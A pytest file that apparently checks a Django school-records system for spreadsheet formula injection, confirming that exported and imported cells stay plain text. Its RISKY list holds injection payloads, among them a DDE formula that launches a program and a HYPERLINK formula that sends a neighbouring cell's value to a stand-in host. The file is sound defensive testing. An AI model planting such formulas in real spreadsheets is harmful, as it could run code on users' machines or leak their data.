"""Text that begins like a formula leaves as text, in every workbook the system writes."""

import io

import openpyxl
import pytest
import xlsxwriter
from django.urls import reverse

from schools.models import School
from sheets import importing
from sheets.forms import get_form
from sheets.template import write_template
from tests.conftest import make_school
from tests.libreoffice import convert, needs_libreoffice
from tests.sheets.test_importing import book
from tests.sheets.test_returning import returned

RISKY = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠1"]
# What opens a program, and what sends the neighbours' cells away.
RISKY += ["=cmd|'/c calc'!A0", '=HYPERLINK("http://x/?"&A1,"点我")', "=1+1\n+2", "'=1+1"]
HEAD = ["县区", "学校名称", "学校类别", "办学性质", "校长", "备注"]


@pytest.fixture
def workbooks(client, users, tree):
    """The list, the template and the refused rows of schools with such texts, by name."""
    for index, text in enumerate(RISKY):
        make_school(
            f"{text}小学{index}", tree.east_edu, tree.places["990102"], principal=text, remark=text
        )
    client.force_login(users.manager)
    listed = client.get(reverse("schools") + "?format=xlsx")
    template = io.BytesIO()
    write_template(get_form("schools"), template, user=users.manager, filled=True)
    rows = [["东区", f"{text}中学", "大学", "公办", text, text] for text in RISKY]
    stream = io.BytesIO()
    plain = xlsxwriter.Workbook(stream, {"in_memory": True, "strings_to_formulas": False})
    sheet = plain.add_worksheet("学校")
    for line, row in enumerate([HEAD, *rows]):
        for column, value in enumerate(row):
            sheet.write_string(line, column, value)
    plain.close()
    stream.seek(0)
    batch = importing.upload("schools", stream, "学校.xlsx", user=users.manager)
    assert batch.report["counts"]["refused"] == len(RISKY)
    return {
        "list": listed.content,
        "template": template.getvalue(),
        "errors": returned(batch),
    }


def cells_of(content):
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def test_none_is_a_formula_when_read_back(workbooks):
    for name, content in workbooks.items():
        found = list(cells_of(content))
        assert not [c for c in found if c.data_type == "f"], name
        texts = {str(c.value).strip() for c in found}
        assert {text.strip() for text in RISKY} <= texts, name


@needs_libreoffice
def test_none_is_a_formula_in_libreoffice(workbooks, tmp_path):
    paths = []
    for name, content in workbooks.items():
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(content)
        paths.append(path)
    for path in convert(paths, "xlsx", tmp_path / "office"):
        assert not [c for c in cells_of(path.read_bytes()) if c.data_type == "f"], path.name


def test_they_come_in_as_text_too(users, tree):
    rows = [
        ["东区", f"甲{index}小学", "小学", "公办", "张某", text] for index, text in enumerate(RISKY)
    ]
    importing.save("schools", book(HEAD, *rows), "学校.xlsx", user=users.editor)
    kept = set(School.objects.values_list("remark", flat=True))
    assert {"＝1+1", "＋1", "－1", "＠1", "@SUM(1)"} <= kept
